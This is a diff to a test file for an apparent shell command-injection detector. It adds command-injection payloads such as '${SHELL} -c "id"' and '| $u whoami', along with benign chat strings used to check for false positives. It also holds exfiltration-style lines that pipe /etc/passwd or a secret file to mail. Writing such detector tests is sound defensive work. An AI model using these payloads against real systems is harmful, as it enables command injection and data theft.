@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
-import { FORM_PLUS, formPlus } from '../../src/detect/cmd/index.js'
+import { detectCmd, FORM_PLUS, formPlus } from '../../src/detect/cmd/index.js'
 import { KNOWN_WORDS, maybeCommand } from '../../src/detect/cmd/names.js'
+import { tokenizeShell } from '../../src/detect/cmd/shell.js'
 import { PREFIX, STRONG, STRONG_FAMILY, WEAK } from '../../src/detect/cmd/vocab.js'
 import { BENIGN, p1, tagOf } from './helpers.js'
 
@@ -62,6 +63,14 @@ const ATTACKS = [
   'look at this: ifconfig; lol',
   "look at this: /usr/bin/perl -e 'print 1' lol",
   '| mail -s hi bob@example.com < /etc/passwd',
+  // empty expansions before the command word make no word of their own
+  ';$@ id',
+  '| $u whoami',
+  'ok && $x $y cat notes.txt',
+  // the user's shell through its variable
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
+  '${SHELL} -c "id"',
+  'x; $SHELL -c whoami',
 ]
 
 const ENCODED = ['%3Bid', '%7Cwhoami', '&#59;id', '；ｉｄ', '\\u003bid', ';i\u200bd']
@@ -98,6 +107,8 @@ const CHAT = [
   'Note that if this is used to log to a windows terminal (`cmd.exe` or',
   'powershell), it is needed to run `chcp 65001` in the terminal',
   '(`node benchmark/compile-mode.js` compares the two)',
+  'set $SHELL to zsh; $HOME stays',
+  'costs $5; $a lot more than that',
   'The differences from [`String.replace`](<(https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/String/replace)>):',
 ]
 
@@ -209,6 +220,15 @@ describe('cmd', () => {
       expect(p1.first(s)?.rule, s.slice(-40)).toBe('cmd-windows-if')
     for (const s of ['it exists if you look', 'the error level was high', 'if errorlevel is high, retry'])
       expect(p1.first(s), s).toBeNull()
+  })
+  it('keeps no word of a text once it is read (the token pool is reused)', () => {
+    const tokens = tokenizeShell('warm up the pool')
+    expect(detectCmd('ok; cat /tmp/secret-4711 | mail x@example.com', 1)?.rule).toBe('cmd-separator-command')
+    expect(tokens.n).toBe(0)
+    expect(tokens.toks.some((t) => t.v.includes('secret') || t.v.includes('mail'))).toBe(false)
+    // and the pool still tokenizes as before
+    const again = tokenizeShell('a; b | c')
+    expect(again.toks.slice(0, again.n).map((t) => t.v)).toEqual(['a', ';', 'b', '|', 'c'])
   })
   it('names the rule', () => {
     expect(p1.first(';id')?.rule).toBe('cmd-separator-command')
